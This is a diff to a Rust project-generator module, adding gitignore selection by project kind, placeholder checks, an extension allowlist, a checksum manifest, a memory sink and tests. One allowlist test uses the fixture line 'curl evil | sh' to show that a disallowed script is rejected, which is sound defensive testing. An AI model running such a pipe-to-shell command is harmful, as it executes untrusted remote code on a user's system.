@@ -1,6 +1,10 @@
+use lazy_static::lazy_static;
+use regex::Regex;
+use sha2::{Digest, Sha256};
 use std::fs;
 use std::io::{self, Write};
-use std::path::Path;
+use std::path::{Path, PathBuf};
+use std::sync::Mutex;
 
 const GITIGNORE_CONTENT: &str = r#"
 /target
@@ -8,37 +12,927 @@ const GITIGNORE_CONTENT: &str = r#"
 **/*.rs.bk
 "#;
 
+const NODE_GITIGNORE_CONTENT: &str = r#"
+/node_modules
+/dist
+npm-debug.log*
+"#;
+
+const FLUTTER_GITIGNORE_CONTENT: &str = r#"
+.dart_tool/
+/build/
+.flutter-plugins
+.flutter-plugins-dependencies
+"#;
+
+/// Kind of project a set of parsed files (or a generated directory) describes, which
+/// picks its `.gitignore` and the toolchain it is executed with.
+#[derive(Debug, PartialEq, Clone, Copy)]
+pub enum ProjectKind {
+    Rust,
+    Node,
+    Flutter,
+}
+
+impl ProjectKind {
+    /// Detects the kind from the manifest among `files` (`Cargo.toml`, `pubspec.yaml`
+    /// or `package.json`, in that order), else from the presence of `.rs` files.
+    pub fn detect(files: &[crate::parser::ParsedFile]) -> Option<ProjectKind> {
+        let has = |path: &str| files.iter().any(|file| file.path == path);
+        if has("Cargo.toml") {
+            Some(ProjectKind::Rust)
+        } else if has("pubspec.yaml") {
+            Some(ProjectKind::Flutter)
+        } else if has("package.json") {
+            Some(ProjectKind::Node)
+        } else if files.iter().any(|file| file.path.ends_with(".rs")) {
+            Some(ProjectKind::Rust)
+        } else {
+            None
+        }
+    }
+
+    /// Detects the kind from the manifest at the root of `project_dir`, with the same
+    /// precedence as [`ProjectKind::detect`].
+    pub fn from_dir(project_dir: &Path) -> Option<ProjectKind> {
+        let has = |name: &str| project_dir.join(name).exists();
+        if has("Cargo.toml") {
+            Some(ProjectKind::Rust)
+        } else if has("pubspec.yaml") {
+            Some(ProjectKind::Flutter)
+        } else if has("package.json") {
+            Some(ProjectKind::Node)
+        } else {
+            None
+        }
+    }
+
+    fn gitignore(self) -> &'static str {
+        match self {
+            ProjectKind::Rust => GITIGNORE_CONTENT,
+            ProjectKind::Node => NODE_GITIGNORE_CONTENT,
+            ProjectKind::Flutter => FLUTTER_GITIGNORE_CONTENT,
+        }
+    }
+}
+
+/// Line ending applied to every generated file.
+#[derive(Debug, PartialEq, Clone, Copy)]
+pub enum LineEnding {
+    Lf,
+    CrLf,
+}
+
+/// Placeholder markers rejected by `--reject-placeholders` when no custom list is given.
+pub const DEFAULT_PLACEHOLDER_MARKERS: &[&str] = &[
+    "rest of the code",
+    "rest unchanged",
+    "existing code",
+    "remains unchanged",
+    "TODO: implement",
+];
+
+/// Options controlling how parsed files are written to disk.
+#[derive(Debug, Clone, Default)]
+pub struct GenerateConfig {
+    /// Rewrite file content to this line ending; `None` writes it unchanged.
+    pub normalize_eol: Option<LineEnding>,
+    /// Leave files whose content is already identical untouched, preserving their mtime.
+    pub touch_changed_only: bool,
+    /// Refuse to write files containing one of these markers (matched case-insensitively).
+    pub placeholder_markers: Vec<String>,
+    /// Collapse runs of blank lines into a single blank line. Line-based, so blank lines
+    /// inside multi-line string literals are collapsed too.
+    pub collapse_blank_lines: bool,
+    /// When non-empty, only files with one of these extensions (without the dot,
+    /// matched case-insensitively) may be generated.
+    pub allowed_extensions: Vec<String>,
+    /// Write `MANIFEST.sha256` listing each generated file's SHA-256, in the
+    /// `sha256sum` format so `sha256sum -c MANIFEST.sha256` can verify the tree.
+    pub checksum_manifest: bool,
+    /// Still write every file, but list each line that looks like a placeholder (an
+    /// ellipsis comment or a placeholder marker) in `PLACEHOLDERS.md`.
+    pub placeholder_report: bool,
+    /// Leading path component(s), e.g. `my_project`, removed from every parsed path
+    /// that starts with them before anything is written.
+    pub strip_path_prefix: Option<String>,
+    /// Text written to `README.md` unless one of the files already is a README.
+    pub readme: Option<String>,
+    /// Mark files parsed with an `[executable]` heading tag as executable (Unix only).
+    pub restore_exec: bool,
+}
+
+/// Where generated projects are written: the real filesystem ([`DiskSink`]) or,
+/// for tests and dry runs, memory ([`MemorySink`]).
+pub trait FileSink {
+    fn write(&self, path: &Path, bytes: &[u8]) -> io::Result<()>;
+    fn create_dir_all(&self, path: &Path) -> io::Result<()>;
+    fn copy(&self, src: &Path, dst: &Path) -> io::Result<()>;
+    /// Current content of a file previously written to the sink.
+    fn read(&self, path: &Path) -> io::Result<Vec<u8>>;
+    fn exists(&self, path: &Path) -> bool;
+    /// Adds the executable bits to a file written to the sink.
+    fn set_executable(&self, path: &Path) -> io::Result<()>;
+}
+
+/// Writes straight to disk.
+pub struct DiskSink;
+
+impl FileSink for DiskSink {
+    fn write(&self, path: &Path, bytes: &[u8]) -> io::Result<()> {
+        let mut f = fs::File::create(path)?;
+        f.write_all(bytes)
+    }
+
+    fn create_dir_all(&self, path: &Path) -> io::Result<()> {
+        fs::create_dir_all(path)
+    }
+
+    fn copy(&self, src: &Path, dst: &Path) -> io::Result<()> {
+        fs::copy(src, dst).map(|_| ())
+    }
+
+    fn read(&self, path: &Path) -> io::Result<Vec<u8>> {
+        fs::read(path)
+    }
+
+    fn exists(&self, path: &Path) -> bool {
+        path.exists()
+    }
+
+    /// Grants execute to whoever may read the file, like `chmod +x` under the usual umask.
+    #[cfg(unix)]
+    fn set_executable(&self, path: &Path) -> io::Result<()> {
+        use std::os::unix::fs::PermissionsExt;
+        let mode = fs::metadata(path)?.permissions().mode();
+        fs::set_permissions(path, fs::Permissions::from_mode(mode | (mode & 0o444) >> 2))
+    }
+
+    /// Windows has no executable bit; nothing to do.
+    #[cfg(not(unix))]
+    fn set_executable(&self, _path: &Path) -> io::Result<()> {
+        Ok(())
+    }
+}
+
+/// One operation recorded by a [`MemorySink`].
+#[derive(Debug, PartialEq, Clone)]
+pub enum SinkOp {
+    Write(PathBuf, Vec<u8>),
+    CreateDirAll(PathBuf),
+    Copy(PathBuf, PathBuf),
+    SetExecutable(PathBuf),
+}
+
+/// Touches nothing on disk; records every operation in order instead.
+#[derive(Debug, Default)]
+pub struct MemorySink {
+    ops: Mutex<Vec<SinkOp>>,
+}
+
+impl MemorySink {
+    /// The operations performed so far, in order.
+    pub fn ops(&self) -> Vec<SinkOp> {
+        self.ops.lock().unwrap().clone()
+    }
+}
+
+impl FileSink for MemorySink {
+    fn write(&self, path: &Path, bytes: &[u8]) -> io::Result<()> {
+        self.ops
+            .lock()
+            .unwrap()
+            .push(SinkOp::Write(path.to_path_buf(), bytes.to_vec()));
+        Ok(())
+    }
+
+    fn create_dir_all(&self, path: &Path) -> io::Result<()> {
+        self.ops
+            .lock()
+            .unwrap()
+            .push(SinkOp::CreateDirAll(path.to_path_buf()));
+        Ok(())
+    }
+
+    fn copy(&self, src: &Path, dst: &Path) -> io::Result<()> {
+        self.ops
+            .lock()
+            .unwrap()
+            .push(SinkOp::Copy(src.to_path_buf(), dst.to_path_buf()));
+        Ok(())
+    }
+
+    fn read(&self, path: &Path) -> io::Result<Vec<u8>> {
+        self.ops
+            .lock()
+            .unwrap()
+            .iter()
+            .rev()
+            .find_map(|op| match op {
+                SinkOp::Write(written, bytes) if written == path => Some(bytes.clone()),
+                _ => None,
+            })
+            .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, format!("{:?}", path)))
+    }
+
+    fn exists(&self, path: &Path) -> bool {
+        self.ops.lock().unwrap().iter().any(|op| match op {
+            SinkOp::Write(written, _) | SinkOp::Copy(_, written) => written == path,
+            SinkOp::CreateDirAll(dir) => dir.starts_with(path),
+            SinkOp::SetExecutable(_) => false,
+        })
+    }
+
+    fn set_executable(&self, path: &Path) -> io::Result<()> {
+        self.ops
+            .lock()
+            .unwrap()
+            .push(SinkOp::SetExecutable(path.to_path_buf()));
+        Ok(())
+    }
+}
+
+/// Name of the report written by [`GenerateConfig::placeholder_report`].
+pub const PLACEHOLDER_REPORT: &str = "PLACEHOLDERS.md";
+
+/// Name of the checksum manifest written by [`GenerateConfig::checksum_manifest`].
+pub const CHECKSUM_MANIFEST: &str = "MANIFEST.sha256";
+
 /// Generates the project in the given output directory using the provided parsed files,
 /// and copies the source Markdown file into the generated project folder.
+///
+/// Returns how many of the parsed files were written.
 pub fn generate_project_with_dir(
     output_dir: &str,
     files: Vec<crate::parser::ParsedFile>,
     source_md: &Path,
-) -> io::Result<()> {
+) -> io::Result<usize> {
+    generate_project_with_config(output_dir, files, source_md, &GenerateConfig::default())
+}
+
+/// Same as [`generate_project_with_dir`], with the full set of generation options.
+pub fn generate_project_with_config(
+    output_dir: &str,
+    files: Vec<crate::parser::ParsedFile>,
+    source_md: &Path,
+    config: &GenerateConfig,
+) -> io::Result<usize> {
+    generate_project_with_sink(output_dir, files, &[source_md], config, &DiskSink)
+}
+
+/// Same as [`generate_project_with_config`] for a project merged from several
+/// Markdown files, copying each of `sources` into the project.
+pub fn generate_project_with_sources(
+    output_dir: &str,
+    files: Vec<crate::parser::ParsedFile>,
+    sources: &[&Path],
+    config: &GenerateConfig,
+) -> io::Result<usize> {
+    generate_project_with_sink(output_dir, files, sources, config, &DiskSink)
+}
+
+/// Same as [`generate_project_with_sources`], writing through `sink`. The source
+/// Markdown is still read from disk.
+pub fn generate_project_with_sink<S: FileSink>(
+    output_dir: &str,
+    files: Vec<crate::parser::ParsedFile>,
+    sources: &[&Path],
+    config: &GenerateConfig,
+    sink: &S,
+) -> io::Result<usize> {
+    let written = generate_project_files_with_sink(output_dir, files, config, sink)?;
+
+    // Copy the source Markdown files into the generated project directory.
+    for source_md in sources {
+        let Some(md_filename) = source_md.file_name() else {
+            continue;
+        };
+        let dest = Path::new(output_dir).join(md_filename);
+        if config.touch_changed_only {
+            write_file(sink, &dest, &fs::read(source_md)?, config)?;
+        } else {
+            sink.copy(source_md, &dest)?;
+        }
+    }
+    Ok(written)
+}
+
+/// Generates the project in `output_dir` from already-parsed files, e.g. the result
+/// of [`crate::parser::parse_content`], without copying any source Markdown.
+///
+/// Returns how many of the parsed files were written.
+pub fn generate_project(
+    output_dir: &str,
+    files: Vec<crate::parser::ParsedFile>,
+) -> io::Result<usize> {
+    generate_project_files(output_dir, files, &GenerateConfig::default())
+}
+
+/// Same as [`generate_project`], with the full set of generation options.
+pub fn generate_project_files(
+    output_dir: &str,
+    files: Vec<crate::parser::ParsedFile>,
+    config: &GenerateConfig,
+) -> io::Result<usize> {
+    generate_project_files_with_sink(output_dir, files, config, &DiskSink)
+}
+
+/// Same as [`generate_project_files`], writing through `sink`.
+pub fn generate_project_files_with_sink<S: FileSink>(
+    output_dir: &str,
+    files: Vec<crate::parser::ParsedFile>,
+    config: &GenerateConfig,
+    sink: &S,
+) -> io::Result<usize> {
+    let files: Vec<crate::parser::ParsedFile> = match &config.strip_path_prefix {
+        Some(prefix) => files
+            .into_iter()
+            .map(|file| crate::parser::ParsedFile {
+                path: strip_path_prefix(&file.path, prefix).to_string(),
+                ..file
+            })
+            .collect(),
+        None => files,
+    };
+
+    // Check every path before writing anything, so a rejected file leaves no partial project.
+    if let Some(file) = files
+        .iter()
+        .find(|file| !extension_allowed(&file.path, &config.allowed_extensions))
+    {
+        return Err(io::Error::new(
+            io::ErrorKind::InvalidInput,
+            format!(
+                "refusing to write {}: its extension is not in the allowlist ({})",
+                file.path,
+                config.allowed_extensions.join(", ")
+            ),
+        ));
+    }
+
     let out_path = Path::new(output_dir);
-    fs::create_dir_all(out_path)?;
+    sink.create_dir_all(out_path)?;
+    let kind = ProjectKind::detect(&files);
+    let has_readme = files
+        .iter()
+        .any(|file| file.path.eq_ignore_ascii_case("README.md"));
 
     // Write each extracted file.
+    let mut written = 0;
+    let mut manifest = Vec::new();
+    let mut placeholders = Vec::new();
+    let report_markers: Vec<String> = if config.placeholder_markers.is_empty() {
+        DEFAULT_PLACEHOLDER_MARKERS
+            .iter()
+            .map(|m| m.to_string())
+            .collect()
+    } else {
+        config.placeholder_markers.clone()
+    };
     for file in files {
+        if let Some(marker) = find_placeholder(&file.content, &config.placeholder_markers) {
+            log::warn!(
+                "Not writing {}: it contains the placeholder {:?}, so the output is incomplete.",
+                file.path,
+                marker
+            );
+            continue;
+        }
         let file_path = out_path.join(&file.path);
         if let Some(parent) = file_path.parent() {
-            fs::create_dir_all(parent)?;
+            sink.create_dir_all(parent)?;
+        }
+        let content = if config.collapse_blank_lines {
+            collapse_blank_lines(&file.content)
+        } else {
+            file.content
+        };
+        let content = match config.normalize_eol {
+            Some(eol) => normalize_eol(&content, eol),
+            None => content,
+        };
+        write_file(sink, &file_path, content.as_bytes(), config)?;
+        if config.restore_exec && file.executable {
+            sink.set_executable(&file_path)?;
+        }
+        written += 1;
+        if config.placeholder_report {
+            for (line_no, line) in placeholder_lines(&content, &report_markers) {
+                placeholders.push(format!("- `{}:{}`: `{}`\n", file.path, line_no, line));
+            }
         }
-        let mut f = fs::File::create(file_path)?;
-        f.write_all(file.content.as_bytes())?;
+        if config.checksum_manifest {
+            manifest.push((file.path, sha256_hex(content.as_bytes())));
+        }
+    }
+    if !placeholders.is_empty() {
+        let report = format!("# Placeholders\n\n{}", placeholders.concat());
+        write_file(
+            sink,
+            &out_path.join(PLACEHOLDER_REPORT),
+            report.as_bytes(),
+            config,
+        )?;
+    }
+    if config.checksum_manifest {
+        manifest.sort();
+        let listing: String = manifest
+            .iter()
+            .map(|(path, hash)| format!("{}  {}\n", hash, path))
+            .collect();
+        write_file(
+            sink,
+            &out_path.join(CHECKSUM_MANIFEST),
+            listing.as_bytes(),
+            config,
+        )?;
+    }
+
+    if let Some(readme) = &config.readme
+        && !has_readme
+    {
+        write_file(
+            sink,
+            &out_path.join("README.md"),
+            format!("{}\n", readme.trim_end()).as_bytes(),
+            config,
+        )?;
     }
 
-    // Write a default .gitignore file if it doesn't exist.
+    // Write a .gitignore for the detected project kind if it doesn't exist.
     let gitignore_path = out_path.join(".gitignore");
-    if !gitignore_path.exists() {
-        let mut f = fs::File::create(gitignore_path)?;
-        f.write_all(GITIGNORE_CONTENT.as_bytes())?;
+    if let Some(kind) = kind
+        && !sink.exists(&gitignore_path)
+    {
+        sink.write(&gitignore_path, kind.gitignore().as_bytes())?;
+    }
+    Ok(written)
+}
+
+/// 1-based numbers and trimmed text of the lines in `content` that are an ellipsis
+/// comment (`// ...`, `# ...`, `/* ... */`) or contain one of `markers`.
+fn placeholder_lines(content: &str, markers: &[String]) -> Vec<(usize, String)> {
+    lazy_static! {
+        static ref ELLIPSIS_REGEX: Regex =
+            Regex::new(r"^(?://+|#+|/\*+|<!--)?\s*(?:\.{3}|…)").unwrap();
+    }
+    content
+        .lines()
+        .enumerate()
+        .filter(|(_, line)| {
+            ELLIPSIS_REGEX.is_match(line.trim()) || find_placeholder(line, markers).is_some()
+        })
+        .map(|(idx, line)| (idx + 1, line.trim().to_string()))
+        .collect()
+}
+
+/// `path` without the leading component(s) `prefix`; unchanged when it does not
+/// start with them.
+fn strip_path_prefix<'a>(path: &'a str, prefix: &str) -> &'a str {
+    let prefix = prefix.trim_matches('/');
+    path.strip_prefix(prefix)
+        .and_then(|rest| rest.strip_prefix('/'))
+        .filter(|rest| !prefix.is_empty() && !rest.is_empty())
+        .unwrap_or(path)
+}
+
+/// Lowercase hex SHA-256 of `bytes`.
+fn sha256_hex(bytes: &[u8]) -> String {
+    Sha256::digest(bytes)
+        .iter()
+        .map(|b| format!("{:02x}", b))
+        .collect()
+}
+
+/// Whether `path` may be generated under the extension allowlist `allowed`
+/// (an empty list allows everything; files without an extension never match).
+fn extension_allowed(path: &str, allowed: &[String]) -> bool {
+    if allowed.is_empty() {
+        return true;
+    }
+    Path::new(path)
+        .extension()
+        .and_then(|ext| ext.to_str())
+        .is_some_and(|ext| {
+            allowed
+                .iter()
+                .any(|a| a.trim_start_matches('.').eq_ignore_ascii_case(ext))
+        })
+}
+
+/// Returns the first marker that occurs in `content`, ignoring case.
+pub fn find_placeholder<'a>(content: &str, markers: &'a [String]) -> Option<&'a str> {
+    if markers.is_empty() {
+        return None;
+    }
+    let content = content.to_lowercase();
+    markers
+        .iter()
+        .find(|marker| content.contains(&marker.to_lowercase()))
+        .map(String::as_str)
+}
+
+/// Writes `content` to `path`, skipping the write when `touch_changed_only` is set
+/// and the file already holds exactly this content.
+fn write_file<S: FileSink>(
+    sink: &S,
+    path: &Path,
+    content: &[u8],
+    config: &GenerateConfig,
+) -> io::Result<()> {
+    if config.touch_changed_only && sink.read(path).is_ok_and(|existing| existing == content) {
+        return Ok(());
+    }
+    sink.write(path, content)
+}
+
+/// Keeps only the first of any consecutive blank (or whitespace-only) lines.
+fn collapse_blank_lines(content: &str) -> String {
+    let mut out = String::with_capacity(content.len());
+    let mut previous_blank = false;
+    for line in content.split_inclusive('\n') {
+        let blank = line.trim().is_empty();
+        if !(blank && previous_blank) {
+            out.push_str(line);
+        }
+        previous_blank = blank;
+    }
+    out
+}
+
+/// Rewrites every line break in `content` (LF or CRLF) to `eol`.
+fn normalize_eol(content: &str, eol: LineEnding) -> String {
+    let lf = content.replace("\r\n", "\n");
+    match eol {
+        LineEnding::Lf => lf,
+        LineEnding::CrLf => lf.replace('\n', "\r\n"),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::parser::ParsedFile;
+
+    fn generate(files: Vec<ParsedFile>, config: &GenerateConfig) -> tempfile::TempDir {
+        let tmp = tempfile::tempdir().unwrap();
+        let source_md = tmp.path().join("source.md");
+        fs::write(&source_md, "").unwrap();
+        let out = tmp.path().join("out");
+        generate_project_with_config(out.to_str().unwrap(), files, &source_md, config).unwrap();
+        tmp
+    }
+
+    fn file(path: &str, content: &str) -> ParsedFile {
+        ParsedFile::new(path, content)
+    }
+
+    #[test]
+    fn test_generate_project_without_source_markdown() {
+        let tmp = tempfile::tempdir().unwrap();
+        let out = tmp.path().join("out");
+        let files = vec![
+            file("Cargo.toml", "[package]\nname = \"demo\"\n"),
+            file("src/main.rs", "fn main() {}\n"),
+        ];
+
+        let written = generate_project(out.to_str().unwrap(), files).unwrap();
+        assert_eq!(written, 2);
+        assert_eq!(
+            fs::read_to_string(out.join("src/main.rs")).unwrap(),
+            "fn main() {}\n"
+        );
+        let mut entries: Vec<_> = fs::read_dir(&out)
+            .unwrap()
+            .map(|entry| entry.unwrap().file_name().into_string().unwrap())
+            .collect();
+        entries.sort();
+        assert_eq!(entries, [".gitignore", "Cargo.toml", "src"]);
+    }
+
+    #[test]
+    fn test_memory_sink_records_writes_in_order() {
+        let sink = MemorySink::default();
+        let written = generate_project_with_sink(
+            "out",
+            vec![
+                file("Cargo.toml", "[package]"),
+                file("src/main.rs", "fn main() {}"),
+            ],
+            &[Path::new("docs/demo.md")],
+            &GenerateConfig::default(),
+            &sink,
+        )
+        .unwrap();
+        assert_eq!(written, 2);
+        assert_eq!(
+            sink.ops(),
+            [
+                SinkOp::CreateDirAll("out".into()),
+                SinkOp::CreateDirAll("out".into()),
+                SinkOp::Write("out/Cargo.toml".into(), b"[package]".to_vec()),
+                SinkOp::CreateDirAll("out/src".into()),
+                SinkOp::Write("out/src/main.rs".into(), b"fn main() {}".to_vec()),
+                SinkOp::Write("out/.gitignore".into(), GITIGNORE_CONTENT.into()),
+                SinkOp::Copy("docs/demo.md".into(), "out/demo.md".into()),
+            ]
+        );
+        assert!(!Path::new("out").exists());
+    }
+
+    #[test]
+    fn test_readme_written_unless_defined() {
+        let config = GenerateConfig {
+            readme: Some("A tiny CLI.".into()),
+            ..Default::default()
+        };
+        let tmp = generate(vec![file("src/main.rs", "fn main() {}")], &config);
+        assert_eq!(
+            fs::read_to_string(tmp.path().join("out/README.md")).unwrap(),
+            "A tiny CLI.\n"
+        );
+
+        let tmp = generate(vec![file("README.md", "# Own readme")], &config);
+        assert_eq!(
+            fs::read_to_string(tmp.path().join("out/README.md")).unwrap(),
+            "# Own readme"
+        );
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_restore_exec_sets_executable_bit() {
+        use std::os::unix::fs::PermissionsExt;
+        let files = crate::parser::parse_content(
+            "### scripts/run.sh [executable]\n```sh\necho hi\n```\n\n\
+             ### scripts/env.sh\n```sh\nexport A=1\n```\n",
+            None,
+        );
+        assert!(
+            files
+                .iter()
+                .any(|f| f.path == "scripts/run.sh" && f.executable)
+        );
+        let config = GenerateConfig {
+            restore_exec: true,
+            ..Default::default()
+        };
+        let tmp = generate(files, &config);
+        let mode = |rel: &str| {
+            fs::metadata(tmp.path().join("out").join(rel))
+                .unwrap()
+                .permissions()
+                .mode()
+        };
+        assert_ne!(mode("scripts/run.sh") & 0o111, 0);
+        assert_eq!(mode("scripts/env.sh") & 0o111, 0);
     }
 
-    // Copy the source Markdown file into the generated project directory.
-    if let Some(md_filename) = source_md.file_name() {
-        let dest = out_path.join(md_filename);
-        fs::copy(source_md, dest)?;
+    #[test]
+    fn test_strip_path_prefix() {
+        let config = GenerateConfig {
+            strip_path_prefix: Some("my_project".into()),
+            ..Default::default()
+        };
+        let tmp = generate(
+            vec![
+                file("my_project/src/main.rs", "fn main() {}"),
+                file("my_project/Cargo.toml", "[package]"),
+                file("my_project_extra/notes.rs", "// kept"),
+            ],
+            &config,
+        );
+        let out = tmp.path().join("out");
+        assert_eq!(
+            fs::read_to_string(out.join("src/main.rs")).unwrap(),
+            "fn main() {}"
+        );
+        assert!(out.join("Cargo.toml").is_file());
+        assert!(out.join("my_project_extra/notes.rs").is_file());
+        assert!(!out.join("my_project").exists());
+    }
+
+    #[test]
+    fn test_gitignore_matches_project_kind() {
+        let node = generate(
+            vec![
+                file("package.json", "{\"name\": \"demo\"}"),
+                file("index.js", "console.log(1);"),
+            ],
+            &GenerateConfig::default(),
+        );
+        let gitignore = fs::read_to_string(node.path().join("out/.gitignore")).unwrap();
+        assert!(gitignore.contains("/node_modules"));
+        assert!(!gitignore.contains("/target"));
+
+        let rust = generate(
+            vec![file("src/main.rs", "fn main() {}")],
+            &GenerateConfig::default(),
+        );
+        let gitignore = fs::read_to_string(rust.path().join("out/.gitignore")).unwrap();
+        assert!(gitignore.contains("/target"));
+
+        let notes = generate(vec![file("notes.txt", "hello")], &GenerateConfig::default());
+        assert!(!notes.path().join("out/.gitignore").exists());
+    }
+
+    #[test]
+    fn test_project_kind_from_dir_matches_detect() {
+        let flutter = generate(
+            vec![
+                file("pubspec.yaml", "name: demo"),
+                file("package.json", "{}"),
+            ],
+            &GenerateConfig::default(),
+        );
+        assert_eq!(
+            ProjectKind::from_dir(&flutter.path().join("out")),
+            Some(ProjectKind::Flutter)
+        );
+        let node = generate(vec![file("package.json", "{}")], &GenerateConfig::default());
+        assert_eq!(
+            ProjectKind::from_dir(&node.path().join("out")),
+            Some(ProjectKind::Node)
+        );
+        assert_eq!(ProjectKind::from_dir(node.path()), None);
+    }
+
+    #[test]
+    fn test_normalize_eol() {
+        let input = vec![file("src/main.rs", "fn main() {\r\n}\nmixed\r\n")];
+
+        let lf = GenerateConfig {
+            normalize_eol: Some(LineEnding::Lf),
+            ..Default::default()
+        };
+        let tmp = generate(input.clone(), &lf);
+        let written = fs::read(tmp.path().join("out/src/main.rs")).unwrap();
+        assert_eq!(written, b"fn main() {\n}\nmixed\n");
+
+        let crlf = GenerateConfig {
+            normalize_eol: Some(LineEnding::CrLf),
+            ..Default::default()
+        };
+        let tmp = generate(input.clone(), &crlf);
+        let written = fs::read(tmp.path().join("out/src/main.rs")).unwrap();
+        assert_eq!(written, b"fn main() {\r\n}\r\nmixed\r\n");
+
+        let tmp = generate(input, &GenerateConfig::default());
+        let written = fs::read(tmp.path().join("out/src/main.rs")).unwrap();
+        assert_eq!(written, b"fn main() {\r\n}\nmixed\r\n");
+    }
+
+    #[test]
+    fn test_touch_changed_only_preserves_unchanged_mtime() {
+        let tmp = tempfile::tempdir().unwrap();
+        let source_md = tmp.path().join("source.md");
+        fs::write(&source_md, "").unwrap();
+        let out = tmp.path().join("out");
+        let out_str = out.to_str().unwrap();
+        let config = GenerateConfig {
+            touch_changed_only: true,
+            ..Default::default()
+        };
+        let files = || {
+            vec![
+                file("src/main.rs", "fn main() {}"),
+                file("src/lib.rs", "v1"),
+            ]
+        };
+        generate_project_with_config(out_str, files(), &source_md, &config).unwrap();
+
+        // Backdate both files so a rewrite would be visible in their mtime.
+        let old = std::time::SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1_000_000);
+        for rel in ["src/main.rs", "src/lib.rs"] {
+            let f = fs::File::options().write(true).open(out.join(rel)).unwrap();
+            f.set_modified(old).unwrap();
+        }
+
+        let mut changed = files();
+        changed[1].content = "v2".to_string();
+        generate_project_with_config(out_str, changed, &source_md, &config).unwrap();
+
+        let mtime = |rel: &str| fs::metadata(out.join(rel)).unwrap().modified().unwrap();
+        assert_eq!(mtime("src/main.rs"), old);
+        assert_ne!(mtime("src/lib.rs"), old);
+        assert_eq!(fs::read_to_string(out.join("src/lib.rs")).unwrap(), "v2");
+    }
+
+    #[test]
+    fn test_reject_placeholders() {
+        let markers: Vec<String> = DEFAULT_PLACEHOLDER_MARKERS
+            .iter()
+            .map(|m| m.to_string())
+            .collect();
+        let body = "fn main() {\n    setup();\n    // ... rest unchanged ...\n}";
+        assert_eq!(find_placeholder(body, &markers), Some("rest unchanged"));
+        assert_eq!(find_placeholder("fn main() {}", &markers), None);
+
+        let config = GenerateConfig {
+            placeholder_markers: markers,
+            ..Default::default()
+        };
+        let tmp = generate(
+            vec![
+                file("src/main.rs", body),
+                file("src/lib.rs", "pub fn ok() {}"),
+            ],
+            &config,
+        );
+        assert!(!tmp.path().join("out/src/main.rs").exists());
+        assert!(tmp.path().join("out/src/lib.rs").exists());
+    }
+
+    #[test]
+    fn test_collapse_blank_lines() {
+        let input = "use std::io;\n\n\n\nfn main() {\r\n  \r\n\r\n}\n\n\n";
+        assert_eq!(
+            collapse_blank_lines(input),
+            "use std::io;\n\nfn main() {\r\n  \r\n}\n\n"
+        );
+
+        let config = GenerateConfig {
+            collapse_blank_lines: true,
+            ..Default::default()
+        };
+        let tmp = generate(vec![file("src/main.rs", "a\n\n\n\nb\n")], &config);
+        let written = fs::read_to_string(tmp.path().join("out/src/main.rs")).unwrap();
+        assert_eq!(written, "a\n\nb\n");
+    }
+
+    #[test]
+    fn test_allowed_extensions_reject_unexpected_files() {
+        let tmp = tempfile::tempdir().unwrap();
+        let source_md = tmp.path().join("source.md");
+        fs::write(&source_md, "").unwrap();
+        let out = tmp.path().join("out");
+        let config = GenerateConfig {
+            allowed_extensions: vec!["rs".to_string(), ".toml".to_string()],
+            ..Default::default()
+        };
+        let files = vec![
+            file("Cargo.toml", "[package]"),
+            file("src/main.rs", "fn main() {}"),
+            file("install.sh", "curl evil | sh"),
+        ];
+
+        let err = generate_project_with_config(out.to_str().unwrap(), files, &source_md, &config)
+            .unwrap_err();
+        assert_eq!(err.kind(), io::ErrorKind::InvalidInput);
+        assert!(err.to_string().contains("install.sh"));
+        assert!(!out.exists(), "nothing should be written");
+
+        let tmp = generate(
+            vec![file("Cargo.TOML", "[package]"), file("src/lib.rs", "")],
+            &config,
+        );
+        assert!(tmp.path().join("out/src/lib.rs").exists());
+    }
+
+    #[test]
+    fn test_checksum_manifest_lists_written_files() {
+        let config = GenerateConfig {
+            checksum_manifest: true,
+            ..Default::default()
+        };
+        let tmp = generate(
+            vec![file("src/main.rs", "fn main() {}"), file("Cargo.toml", "")],
+            &config,
+        );
+        let manifest = fs::read_to_string(tmp.path().join("out").join(CHECKSUM_MANIFEST)).unwrap();
+        // sha256("fn main() {}") and sha256("")
+        assert_eq!(
+            manifest,
+            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  Cargo.toml\n\
+             ef32637cb9c3ec2e3968c9cbdf26a5e9c172be94f88af533e14bd43f892d5297  src/main.rs\n"
+        );
+    }
+
+    #[test]
+    fn test_placeholder_report_lists_incomplete_lines() {
+        let config = GenerateConfig {
+            placeholder_report: true,
+            ..Default::default()
+        };
+        let tmp = generate(
+            vec![
+                file("src/main.rs", "fn main() {\n    setup();\n    // ...\n}"),
+                file(
+                    "src/lib.rs",
+                    "pub fn range() -> std::ops::Range<u8> { 0..3 }",
+                ),
+                file("app.py", "def f():\n    # rest of the code here\n"),
+            ],
+            &config,
+        );
+        let out = tmp.path().join("out");
+        assert!(out.join("src/main.rs").exists(), "files are still written");
+        assert_eq!(
+            fs::read_to_string(out.join(PLACEHOLDER_REPORT)).unwrap(),
+            "# Placeholders\n\n- `src/main.rs:3`: `// ...`\n- `app.py:2`: `# rest of the code here`\n"
+        );
+
+        let tmp = generate(vec![file("src/lib.rs", "pub fn ok() {}")], &config);
+        assert!(!tmp.path().join("out").join(PLACEHOLDER_REPORT).exists());
     }
-    Ok(())
 }